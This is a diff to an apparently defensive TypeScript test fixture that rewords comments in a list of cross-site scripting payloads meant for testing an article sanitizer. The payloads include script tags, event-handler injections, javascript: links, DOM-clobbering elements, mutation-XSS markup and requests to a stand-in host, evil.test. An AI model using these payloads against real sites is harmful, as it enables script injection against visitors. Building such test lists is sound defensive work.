@@ -1,5 +1,5 @@
 const samples: readonly string[] = [
-  // Scripts
+  // Elements that run scripts
   '<script>hit()</script>',
   '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
   '<script/x>hit()</script >',
@@ -9,7 +9,7 @@ const samples: readonly string[] = [
   '<svg><script href="data:text/javascript,hit()" /></svg>',
   '<script type="module" src="data:text/javascript,hit()"></script>',
   '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
-  // Handlers
+  // Event handlers
   '<img src=x onerror=hit()>',
   '<img src=x oNeRrOr=hit()>',
   '<img src="x"onerror="hit()">',
@@ -35,7 +35,7 @@ const samples: readonly string[] = [
   '<input autofocus onfocus=hit()>',
   '<marquee onstart=hit()>x</marquee>',
   '<xss onpointerdown=hit()>x</xss>',
-  // Addresses
+  // Unsafe addresses
   '<a href="javascript:hit()">x</a>',
   '<a href="JaVaScRiPt:hit()">x</a>',
   '<a href=" &#14; javascript:hit()">x</a>',
@@ -81,13 +81,13 @@ const samples: readonly string[] = [
   '<dialog open><p>Sign in again</p></dialog>',
   '<button popovertarget=x>x</button><div popover id=x>y</div>',
   '<a href="#/terms" ping="https://evil.test/" download>x</a>',
-  // Names and ids that collide with those of the page
+  // Names and ids that overwrite variables of the page
   '<a id=host name=host href="https://evil.test/">x</a>',
   '<img name=getElementById src=x><img id=__integrity src=x>',
   '<form id=attributes><input name=attributes></form>',
   '<form><input name=parentNode><input name=nodeName></form>',
   '<div id="popup-article-heading" class="dialog" slot="x" is="x-x" part="y" data-popup="game">x</div>',
-  // Markup that changes its meaning when it is parsed twice
+  // Markup that means something else when it is parsed again
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>',
   '<svg></p><style><a title="</style><img src=x onerror=hit()>">',
@@ -110,7 +110,7 @@ const samples: readonly string[] = [
   '<\u0000script>hit()</script>',
   '<p title="&quot;><img src=x onerror=hit()>">x</p>',
   '&lt;script&gt;hit()&lt;/script&gt;',
-  // Further scripts
+  // More scripts
   '<img src=x:x onerror=eval.call`${hit()}`>',
   '<img src onerror\u0009=hit()>',
   '<img src=1 href=1 onerror="top[/hi/.source+/t/.source]()">',
@@ -171,11 +171,11 @@ const samples: readonly string[] = [
   '<ul><li style="list-style:url(javascript:hit())" type=javascript:hit()>x</ul>',
 ];
 
-// Events that a manual list of handlers often omits.
+// Events that hand-written lists of handlers often omit.
 const events =
   'abort afterprint animationcancel animationend animationiteration auxclick beforecopy beforeinput beforetoggle blur cancel canplay change close contextmenu copy cuechange cut dblclick drag dragend dragstart drop durationchange ended focusin focusout formdata gotpointercapture hashchange input invalid keydown keypress keyup loadeddata loadstart lostpointercapture message mousedown mouseenter mousemove mouseover mouseup mousewheel pagehide pageshow paste pointercancel pointermove pointerup popstate progress ratechange reset resize scroll scrollend search securitypolicyviolation seeked select selectionchange selectstart show slotchange stalled storage submit suspend timeupdate touchend touchmove touchstart transitionend unhandledrejection unload volumechange waiting wheel';
 
-/** Attacks that an article may contain, one per entry. `hit()` represents the attacker's script. */
+/** Attacks that an article may contain, one per entry. `hit()` stands for the attacker's script. */
 export const hostileMarkup: readonly string[] = [
   ...samples,
   ...events.split(' ').map((event) => `<p on${event}=hit() tabindex=0 contenteditable>${event}</p>`),
